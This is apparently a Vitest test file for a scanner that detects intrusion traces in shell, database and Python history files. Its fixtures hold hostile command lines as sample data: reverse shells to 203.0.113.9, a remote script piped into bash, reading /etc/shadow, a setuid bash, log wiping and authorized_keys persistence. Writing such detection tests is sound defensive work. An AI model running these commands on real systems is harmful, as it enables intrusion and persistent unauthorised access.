import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { lacks } from '../../../test/need.ts';
import { makeRoot, scanRoot, scanWithout, shown } from '../../../test/throwaway-root.ts';
import { shellHistory } from './check.ts';
import { commandsIn } from './commands.ts';

const told = async (files: Record<string, string>) => (await scanRoot([shellHistory], files)).findings.map(({ kind, level, path }) => `${kind} ${level} ${path}`);

describe('shell-history', () => {
  it('finds what intruders type, with its line, and shows no password', async () => {
    const root = makeRoot({ '/root/.bash_history': 'ls\n#1795000000\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\ncurl -H "Authorization: Bearer abcdefgh12345678" http://203.0.113.9/i.sh | bash\n' });
    const report = await scanRoot([shellHistory], root);
    expect(shown(report)).toEqual(['high /root/.bash_history']);
    expect(report.findings[0]).toMatchObject({ kind: 'intrusion', user: 'root', time: 1_795_000_000_000 });
    expect(report.findings[0]!.evidence[0]!.what.en).toContain('/root/.bash_history line 3');
    expect(JSON.stringify(report)).not.toContain('abcdefgh12345678');
    rmSync(join(root, 'root/.bash_history'));
    expect(shown(await scanRoot([shellHistory], root))).toEqual([]);
  });

  it('reads the histories of other shells and of databases', async () => {
    expect(await told({
      '/home/lin/.zsh_history': ': 1795000000:0;nc -e /bin/sh 203.0.113.9 4444\n', '/root/.local/share/fish/fish_history': '- cmd: chmod u+s /bin/bash\n  when: 1795000000\n', '/root/.mysql_history': "_HiStOrY_V2_\nselect\\0400x7f\\040into\\040dumpfile\\040'/usr/lib/mysql/plugin/u.so';\n",
      '/var/www/.bash_history': 'cat /etc/shadow\n', '/root/.rediscli_history': 'config set dir /root/.ssh/\n', '/root/.psql_history': "copy t from program 'id';\n\\! nc -e /bin/sh 203.0.113.9 1\n", '/root/.python_history': 'import os\nos.system("bash -i >& /dev/tcp/203.0.113.9/1 0>&1")\n',
    })).toEqual([
      'intrusion high /home/lin/.zsh_history', 'intrusion high /root/.local/share/fish/fish_history', 'intrusion high /root/.mysql_history', 'intrusion high /root/.psql_history', 'intrusion high /root/.python_history', 'intrusion high /root/.rediscli_history', 'notice low /var/www/.bash_history',
    ]);
  });

  it('is silent for an administrator\'s ordinary life, and mild for what is odd once', async () => {
    expect(await told({ '/root/.bash_history': [
      'curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.0/install.sh | bash', 'curl -fsSL https://get.docker.com | sh', 'wget -O - https://get.acme.sh | sh -s email=a@b.example', 'systemctl restart sshd', 'vi /etc/ssh/sshd_config', 'iptables -L -n',
      'crontab -e', 'tail -f /var/log/nginx/error.log', 'mysqldump -uroot -pSecret app > app.sql', 'chmod -R 755 /var/www', 'find / -size +1G', 'kill -9 4242', 'ssh -L 8080:localhost:80 web.example', 'passwd deploy', 'useradd -m deploy', 'docker run --rm -it alpine sh', 'history -c', 'ufw allow 443',
    ].join('\n'), '/root/.mysql_history': 'select * from user;\nshow databases;\n', '/root/.rediscli_history': 'info\nconfig set maxmemory 1gb\n', '/root/.python_history': 'import sys\nprint(1)\n' })).toEqual([]);
    expect(await told({ '/root/.bash_history': 'cat /etc/shadow\n' })).toEqual(['notice low /root/.bash_history']);
    expect(await told({ '/root/.bash_history': 'cat /etc/shadow\nrm -rf /var/log/wtmp\necho "ssh-rsa AAAA x" >> /root/.ssh/authorized_keys\nchattr +i /root/.ssh/authorized_keys\n' })).toEqual(['intrusion medium /root/.bash_history']);
  });

  it('finds a history that leads nowhere', async () => {
    expect(await told({ '/root/.bash_history': '->/dev/null' })).toEqual(['intrusion medium /root/.bash_history']);
  });

  it('takes histories apart and bears hostile ones', async () => {
    expect(commandsIn('#1795000000\nls\npwd\n: 1795000001:0;id\n')).toEqual([{ line: 2, text: 'ls', time: 1_795_000_000_000 }, { line: 3, text: 'pwd', time: undefined }, { line: 4, text: 'id', time: 1_795_000_001_000 }]);
    const report = await scanRoot([shellHistory], { '/root/.bash_history': `${'\0'.repeat(100_000)}${'a|'.repeat(100_000)}\n${Array.from({ length: 3000 }, (_, i) => `x${i}`).join('\n')}` });
    expect(report.findings).toEqual([]);
  });

  it.skipIf(lacks({ root: true }))('says what it could not read', async () => {
    const report = await scanWithout([shellHistory], makeRoot({ '/home/lin/.bash_history': 'ls\n' }), '/home/lin/.bash_history');
    expect(report.blind.map(({ what }) => what)).toContain('/home/lin/.bash_history');
  });
});
